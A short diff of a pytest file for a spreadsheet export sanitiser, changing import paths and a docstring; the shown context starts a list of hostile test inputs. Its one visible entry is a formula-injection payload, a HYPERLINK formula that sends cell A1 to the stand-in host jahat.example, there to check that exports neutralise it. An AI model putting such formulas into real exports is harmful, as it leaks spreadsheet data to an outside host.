@@ -1,4 +1,4 @@
-"""The one spreadsheet sanitiser (portal/exports.py, also reached through the HR reports'
+"""The one spreadsheet sanitiser (core/exports.py, also reached through the HR reports'
 exports) leaves no live formula; the files themselves are checked in test_export_sanitise.py."""
 
 from datetime import date
@@ -6,8 +6,8 @@ from decimal import Decimal
 
 import pytest
 
-from portal import exports
-from workflow.reports import exports as report_exports
+from core import exports
+from reports import exports as report_exports
 
 HOSTILE = [
     '=HYPERLINK("http://jahat.example/?x="&A1,"klik")',
